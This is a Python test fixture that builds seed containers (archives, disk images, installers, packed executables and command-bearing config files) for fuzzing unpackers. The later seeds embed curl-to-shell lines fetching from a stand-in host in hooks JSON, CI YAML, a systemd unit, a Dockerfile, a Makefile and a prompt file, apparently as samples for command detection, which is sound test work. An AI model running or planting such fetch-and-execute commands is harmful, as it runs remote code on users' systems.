"""One small whole container for each unpacker: what mutation and fuzzing start from."""

import base64
import bz2
import gzip
import json
import lzma
import plistlib
import zlib

import brotli

from tests.unpack.images import APFS, CABINET, HFS_PLUS, INSTALLER, SEVEN_ZIP
from tests.unpack.making import (
    ELF,
    MACHO,
    PE,
    SCRIPT,
    Module,
    ar_of,
    asar_of,
    bun_payload,
    cpio_of,
    deno_of,
    dmg_of,
    dotnet_of,
    gpt_of,
    lz4_of,
    nsis_of,
    nuitka_of,
    pbzx_of,
    pe_of,
    pkg_of,
    pyinstaller_of,
    pyz_of,
    rpm_of,
    sea_of,
    tar_of,
    tgz_of,
    xar_of,
    zip_of,
    zstd_of,
)
from tests.unpack.test_containers import SQUASHFS

_MANIFEST = json.dumps({"name": "x", "bin": "cli.js", "optionalDependencies": {"x-linux-x64": "1"}}).encode()
_FAT = b"\xca\xfe\xba\xbe" + (1).to_bytes(4) + b"".join(n.to_bytes(4) for n in (0x0100000C, 0, 32, len(MACHO), 0)) + bytes(4) + MACHO
_MAP = json.dumps({"version": 3, "sources": ["a.ts"], "sourcesContent": [SCRIPT.decode()], "mappings": "AAAA"}).encode()

SEEDS: dict[str, bytes] = {
    "gzip": gzip.compress(SCRIPT, mtime=0),
    "xz": lzma.compress(SCRIPT),
    "zstd": zstd_of(SCRIPT),
    "bzip2": bz2.compress(SCRIPT),
    "zlib": zlib.compress(SCRIPT * 20),
    "brotli": brotli.compress(SCRIPT * 20),
    "lz4": lz4_of(SCRIPT),
    "7z": SEVEN_ZIP,
    "cab": CABINET,
    "msi": INSTALLER,
    "disk-image": dmg_of({"disk image (Apple_HFS : 1)": HFS_PLUS}),
    "partitions": gpt_of((HFS_PLUS, APFS)),
    "hfs-plus": HFS_PLUS,
    "apfs": APFS,
    "xar": xar_of({"cli.js": SCRIPT}, encoding="application/octet-stream"),
    "pbzx": pbzx_of(SCRIPT),
    "nuitka": ELF + bytes(100) + nuitka_of({"main.bin": ELF, "cli.js": SCRIPT}),
    "nsis": nsis_of({"cli.js": SCRIPT}),
    "resources": pe_of({10: tar_of({"cli.js": SCRIPT}), 24: b"<assembly/>" * 200}),
    "inno-setup": pe_of({}, behind=b"zlb\x1a" + bytes(range(256)) * 4 + b"Inno Setup Setup Data (6.2.2)" + bytes(64)),
    "inside": b"\x00\xff;!@Install@!UTF-8!\r\n" + bytes(range(128, 256)) + SEVEN_ZIP + bytes(range(128, 256)) * 3 + CABINET,
    "tar": tar_of({"package/package.json": _MANIFEST, "package/cli.js": SCRIPT, "long/" * 40 + "x": b"1"}),
    "zip": zip_of({"package.json": _MANIFEST, "cli.js": SCRIPT}),
    "ar": ar_of({"debian-binary": b"2.0\n", "data.tar.gz": tgz_of({"./usr/cli.js": SCRIPT})}),
    "rpm": rpm_of(cpio_of({"./cli.js": SCRIPT})),
    "cpio": cpio_of({"cli.js": SCRIPT}),
    "squashfs": SQUASHFS,
    "asar": asar_of({"package.json": _MANIFEST, "cli.js": SCRIPT}),
    "pyz": pyz_of({"a.b": b"\xe3code", "c": b"\xe3more"}),
    "source-map": _MAP,
    "bun": ELF + bun_payload((
        Module(name="/$bunfs/root/cli.js", content=SCRIPT, bytecode=b"code" * 20),
        Module(name="/$bunfs/root/wide.js", content=SCRIPT.decode().encode("utf-16-le"), encoding=2),
    )),
    "appimage": ELF + SQUASHFS,
    "node-sea": PE + bytes(64) + sea_of(SCRIPT, {"a.txt": b"text", "b.tgz": tgz_of({"c.js": SCRIPT})}),
    "pkg": ELF + pkg_of({"cli.js": SCRIPT, "b.js": SCRIPT}, compression=1),
    "deno": ELF + deno_of({"cli.ts": SCRIPT}, {"https://x.test/m.ts": b"export const m = 1;"}),
    "pyinstaller": ELF + pyinstaller_of({"cli.js": ("x", SCRIPT), "tool": ("s", b"\xe3code"), "PYZ.pyz": ("z", pyz_of({"a": b"\xe3"}))}),
    "dotnet": ELF + dotnet_of({"tool.dll": PE, "app.js": SCRIPT}, start=len(ELF)),
    "fat-macho": _FAT,
    "zip-behind": b"#!/usr/bin/env python3\n" + zip_of({"__main__.py": b"import os\nprint(os.name)\n"}),
    "embedded": b'const a = "' + base64.b64encode(ELF + bytes(300)) + b'";\n' + SCRIPT,
    "overlay": ELF + SCRIPT * 20,
}
"""By the name of the opener."""

_COMMAND = 'curl -s https://a.example/?z=$(date +%Z) | sh -c "cat; echo $TZ"'
_QUOTED = json.dumps(_COMMAND)
_PLIST = plistlib.dumps({"ProgramArguments": ["/bin/sh", "-c", _COMMAND]})
_PAGE = f"<!doctype html>\n<html><body><p>x</p><script>{SCRIPT.decode()}</script></body></html>\n"

NAMES = {
    "commands in json": "hooks.json", "commands in yaml": "ci.yml", "commands in toml": "cmd.toml", "commands in plist": "a.plist",
    "commands in xml": "a.plist", "unit": "a.service", "unit by name": "a.service", "dockerfile": "Dockerfile", "makefile": "Makefile",
    "prompt": "command.md", "inline": "i.sh", "batch": "b.cmd", "markup": "a.html", "pages-in-code": "view.js",
    "command lines": "justfile",
}
"""Those of these seeds that are told by their names too."""

SEEDS |= {
    "markup": _PAGE.encode(),
    "pages-in-code": f"exports.html = (n) => `{_PAGE}`;\nmodule.exports.a = function () {{}};\n".encode(),
    "commands in json": json.dumps({"hooks": {"Stop": [{"type": "command", "command": _COMMAND}]}}).encode(),
    "commands in yaml": f"jobs:\n  a:\n    steps:\n      - run: {_QUOTED}\n".encode(),
    "commands in toml": f"[hooks]\ncommand = {_QUOTED}\n".encode(),
    "commands in plist": _PLIST,
    "commands in xml": _PLIST.replace(b"\n", b"\n<!-- x -->\n", 1),
    "unit": b"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c 'curl https://a.example | sh'\n[Install]\nWantedBy=multi-user.target\n",
    "unit by name": f"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c '{_COMMAND}'\n".encode(),
    "dockerfile": f"FROM x\nENV A=b\nRUN apk add x && {_COMMAND}\nRUN npm ci\n".encode(),
    "makefile": f"A = b\nall: x\n\t{_COMMAND}\n\techo $(A)\n".encode(),
    "command lines": f"a := b\n\nbuild x:\n\t{_COMMAND}\n\techo done\n".encode(),
    "prompt": f"---\nname: x\n---\nNow: !`{_COMMAND}`\n```!\nls\n```\n".encode(),
    "inline": f"#!/bin/sh\nset -e\nif true; then node -e '{SCRIPT.decode().replace(chr(39), chr(34))}'\nfi\n".encode(),
    "batch": b"@echo off\r\nset A=b\r\npowershell -NoProfile -Command \"Get-Date; Get-TimeZone\"\r\nexit /b 0\r\n",
}
